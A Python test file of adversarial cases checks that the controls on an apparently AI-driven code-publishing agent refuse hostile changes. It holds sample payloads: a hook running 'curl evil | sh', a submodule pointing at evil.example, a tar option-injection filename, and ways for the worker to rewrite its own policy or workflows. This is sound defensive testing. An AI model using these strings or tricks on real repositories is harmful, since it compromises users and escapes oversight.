"""Attacks on what is published: by the patch, by the words beside it, and by being in two places at once."""

from __future__ import annotations

from contextlib import suppress
from datetime import UTC, datetime

from pushpals.audit import prose
from pushpals.audit.markdown import GITHUB_LIMIT, open_fence
from pushpals.git import Identity, LeaseLost, RefUpdate
from pushpals.ledger import ClaimLost, Ledger, job_ref
from pushpals.model import Bounds, Finding, JobState, Task
from pushpals.policy.repo_policy import Limits, RepoPolicy, Scope
from tests.adversary.cases import case
from tests.adversary.stage import RIGHT, Stage, agent_branches, asked, at_the_bench, holds, quiet, said
from tests.loop.snapshots import REPORT, job, request
from tests.stories.scripted import Messages, call
from tests.stories.town import FIX

TOKEN = "ghp_" + "a1B2c3D4" * 5
NOON = datetime(2026, 3, 1, 12, tzinfo=UTC)


async def _protected(stage: Stage, path: str, text: str = "x: 1\n") -> None:
    bench = await at_the_bench(stage)
    bench.write({path: text})
    await bench.refuses(f"{path} is changed", "scope.protected")


@case("change a workflow", control="protected paths")
async def _(stage: Stage) -> None:
    await _protected(stage, ".github/workflows/ci.yml")


@case("change an action that workflows use", control="protected paths")
async def _(stage: Stage) -> None:
    await _protected(stage, ".github/actions/build/action.yml")


@case("make itself an owner of the code", control="protected paths")
async def _(stage: Stage) -> None:
    await _protected(stage, "docs/CODEOWNERS", "* @attacker\n")


@case("change the policy it is judged by", control="protected paths")
async def _(stage: Stage) -> None:
    await _protected(stage, ".github/pushpals.yml", "scope:\n  write: ['**']\n")


@case("add a role that may do anything", control="protected paths")
async def _(stage: Stage) -> None:
    await _protected(stage, ".github/pushpals/roles/root.md", "# Root\n")


@case("plant a hook that people's git runs", control="protected paths")
async def _(stage: Stage) -> None:
    await _protected(stage, ".husky/pre-commit", "curl evil | sh\n")


@case("have everybody's git run a filter", control="protected paths")
async def _(stage: Stage) -> None:
    await _protected(stage, "src/.gitattributes", "* filter=evil\n")


@case("point a submodule elsewhere", control="protected paths")
async def _(stage: Stage) -> None:
    await _protected(stage, ".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x\n')


@case("change a workflow in another spelling, for a file system that ignores case", control="letter case")
async def _(stage: Stage) -> None:
    await _protected(stage, ".GitHub/WorkFlows/CI.yml")


@case("write where the policy lets nothing be written", control="write scope")
async def _(stage: Stage) -> None:
    bench = await at_the_bench(stage)
    bench.write({"deploy/keys.txt": "x\n"})
    await bench.refuses(
        "a file outside of the write scope changes", policy=RepoPolicy(scope=Scope(write=("src/**",)))
    )


@case("write beside its task", control="task scope")
async def _(stage: Stage) -> None:
    bench = await at_the_bench(stage)
    bench.write({"src/app.py": "x = 2\n", "src/other.py": "y = 1\n"})
    await bench.refuses("a file outside of the task's scope changes", scope=("src/app.py",))


@case("write what its role may not", control="role bounds")
async def _(stage: Stage) -> None:
    bench = await at_the_bench(stage)
    bench.write({"src/app.py": "x = 2\n"})
    await bench.refuses("a writer of docs changes code", bounds=Bounds(within=("docs/**",)))


@case("change what is installed by the lock file alone", control="lock files")
async def _(stage: Stage) -> None:
    bench = await at_the_bench(stage)
    bench.write({"package-lock.json": '{"packages": {"evil": {}}}\n'})
    await bench.refuses("a dependency is swapped where nobody looks", "lockfile")


@case("change more than anybody can review", control="size")
async def _(stage: Stage) -> None:
    bench = await at_the_bench(stage)
    bench.write({f"src/{number}.py": "x = 1\n" for number in range(30)})
    policy = RepoPolicy(limits=Limits(files=20))
    await bench.refuses("a change of any size is published", "limits.files", policy=policy)


@case("publish a binary", control="file kinds")
async def _(stage: Stage) -> None:
    bench = await at_the_bench(stage)
    bench.write({"src/tool": b"\x7fELF\0\0\0\0"})
    await bench.refuses("what nobody can read is published", "binary")


@case("publish a symbolic link out of the repository", control="file kinds")
async def _(stage: Stage) -> None:
    bench = await at_the_bench(stage)
    (bench.repository.workspace / "src" / "passwd").symlink_to("/etc/passwd")
    await bench.refuses("a link out of the repository is published", "mode")


@case("hide a line break in a file's name", control="path names")
async def _(stage: Stage) -> None:
    bench = await at_the_bench(stage)
    bench.write({"src/a\nb.py": "x\n"})
    await bench.refuses("a name of two lines is published", "path")


@case("hide a file's kind behind a sign that reverses text", control="path names")
async def _(stage: Stage) -> None:
    bench = await at_the_bench(stage)
    bench.write({"src/report\u202efdp.exe": "x\n"})
    await bench.refuses("a name that reads otherwise is published", "path")


@case("give a file a name that programs take for an option", control="path names")
async def _(stage: Stage) -> None:
    bench = await at_the_bench(stage)
    bench.write({"src/--checkpoint-action=exec=sh": "x\n"})
    await bench.refuses("`rm *` and the like obey a file's name")


@case("write into git's own folder by its short name on Windows", control="path names")
async def _(stage: Stage) -> None:
    bench = await at_the_bench(stage)
    bench.write({"GIT~2/config": "x\n"})
    await bench.refuses("a name that Windows takes for .git is published", "path")


@case("name a file by way of Windows' own separators", control="path names")
async def _(stage: Stage) -> None:
    bench = await at_the_bench(stage)
    bench.write({"src\\..\\..\\evil.py": "x\n"})
    await bench.refuses("a path out of the repository is published", "path")


@case("publish a token", control="secrets")
async def _(stage: Stage) -> None:
    bench = await at_the_bench(stage)
    bench.write({"src/app.py": f'x = "{TOKEN}"\n'})
    await bench.refuses("a token is published", "secret")


@case("publish a private key", control="secrets")
async def _(stage: Stage) -> None:
    bench = await at_the_bench(stage)
    bench.write({"src/app.py": "KEY = '''-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n'''\n"})
    await bench.refuses("a key is published", "secret")


@case("publish a password in an address", control="secrets")
async def _(stage: Stage) -> None:
    bench = await at_the_bench(stage)
    bench.write({"src/app.py": 'URL = "https://ada:hunter2hunter@db.example.com/x"\n'})
    await bench.refuses("a password is published", "secret")


@case("say a token in the summary of the work", control="secrets in words")
async def _(stage: Stage) -> None:
    bench = await at_the_bench(stage)
    bench.write({"src/app.py": "x = 2\n"})
    verdict = await bench.judge(words=f"Use {TOKEN} to log in.")
    assert verdict.failure is None
    holds(TOKEN not in verdict.report.words, "a token stands in the pull request")


@case("have the title tell CI to skip the change", control="skip marks")
async def _(stage: Stage) -> None:
    message = prose.commit_message(request(), job(JobState.GATED, task=Task(goal="Fix names [skip ci]")))
    holds("[skip ci]" not in message, "CI never sees the change")


@case("overflow the pull request's text, so that its end is lost", control="whole Markdown")
async def _(stage: Stage) -> None:
    long = tuple(Finding(rule="r", message="m" * 290, path=f"{n}/" + "x" * 200) for n in range(300))
    report = REPORT.model_copy(
        update={
            "findings": long,
            "words": "```\n" + "code\n" * 3000,
            "follow_ups": tuple("f" * 290 for _ in range(300)),
        }
    )
    body = prose.pull_body(request(), job(JobState.PUBLISHED, report=report))
    whole = body.count("<details>") == body.count("</details>") and open_fence(body) is None
    holds(
        len(body) <= GITHUB_LIMIT and whole and "Cut here" in body,
        "the text is refused or swallows what follows",
    )


@case("publish with a claim that another worker has taken over", control="lease")
async def _(stage: Stage) -> None:
    repository = await stage.repository()
    ledger = Ledger(repository.mirror, Identity("PushPals", "p@example.com"))
    record = job(JobState.GATED, base=repository.base)
    lost = await ledger.create(job_ref(record.id), record, message="Gated.", when=NOON)
    taken = record.model_copy(update={"nonce": "other", "by": None})
    await ledger.advance(lost, taken, message="Taken over.", when=NOON)
    branch = RefUpdate("refs/heads/agent/x", None, repository.base)
    stale = record.model_copy(update={"state": JobState.PUBLISHED, "head": repository.base, "nonce": "mine"})
    with suppress(ClaimLost):
        await ledger.advance(lost, stale, message="Published.", when=NOON, also=(branch,))
    holds("refs/heads/agent/x" not in repository.remote.refs(), "a worker without a claim publishes")


@case("land what was tested after somebody has pushed to the base", control="lease")
async def _(stage: Stage) -> None:
    repository = await stage.repository()
    mirror, base = repository.mirror, repository.base
    tested = await mirror.commit(
        await mirror.commit_tree(base), [base], "Tested", author=Identity("a", "a@b"), when=NOON
    )
    theirs = repository.remote.commit({"README.md": b"theirs\n"}, "Theirs")
    with suppress(LeaseLost):
        await mirror.push([RefUpdate("refs/heads/main", base, tested)])
    holds(repository.remote.refs()["refs/heads/main"] == theirs, "a push of somebody else is undone")


@case("have a person's branch overwritten by giving it the name of a job's", control="lease")
async def _(stage: Stage) -> None:
    town = await stage.town()
    theirs = await town.forge.git.sha(town.repo, "main")
    await town.forge.git.set_ref(town.repo, "refs/heads/agent/bug-fixer/1-1", theirs)
    async with asked(town):
        pass
    holds(
        await town.forge.git.sha(town.repo, "agent/bug-fixer/1-1") == theirs,
        "a branch of others is overwritten",
    )


@case("go on publishing after the work was cancelled", control="cancel")
async def _(stage: Stage) -> None:
    def cancelled(_messages: Messages) -> str:
        town.forge.close_issue(issue, "ada")
        return FIX

    town = await stage.town([cancelled])
    issue = town.issue()
    async with town.server() as server:
        town.label(issue)
        await quiet(town, server)
    holds(not town.pulls() and not agent_branches(await town.refs()), "cancelled work is published")


@case("have another tree pushed than the one that was checked", control="exact tree")
async def _(stage: Stage) -> None:
    town = await stage.town()
    async with asked(town) as (_, issue):
        [record] = await town.jobs(issue)
    assert record.head
    assert record.report.evidence
    pushed = await town.forge.git.run(town.repo, "rev-parse", f"{record.head}^{{tree}}")
    holds(pushed.strip() == record.report.evidence.tree, "what is pushed was never checked")


@case("have the worker's tools write a workflow for it", control="protected paths")
async def _(stage: Stage) -> None:
    path = ".github/workflows/ci.yml"
    town = await stage.town([RIGHT, call("done", summary="Done.")], policy="scope:\n  write: ['**']\n")
    # What the tools refuse, a command could still do: here it is done behind their back.

    def behind(_messages: Messages) -> None:
        for folder in (town.folder / "state" / "work").glob("*/*/*"):
            (folder / path).parent.mkdir(parents=True, exist_ok=True)
            (folder / path).write_text("on: pull_request_target\n")

    town.model.hold = behind
    async with asked(town):
        pass
    changed = [
        await town.forge.git.run(town.repo, "diff", "--name-only", "main", pull.head_sha)
        for pull in town.pulls()
    ]
    holds(not any(path in names for names in changed), "a workflow is published")
    assert town.pulls() or "protected" in said(town)


@case("make a commit in somebody's name by the words of a request", control="one author")
async def _(stage: Stage) -> None:
    goal = "Fix names\n\nCo-authored-by: root <root@example.com>"
    message = prose.commit_message(request(), job(JobState.GATED, task=Task(goal=goal)))
    holds("\nCo-authored-by" not in message, "somebody else is named as an author")
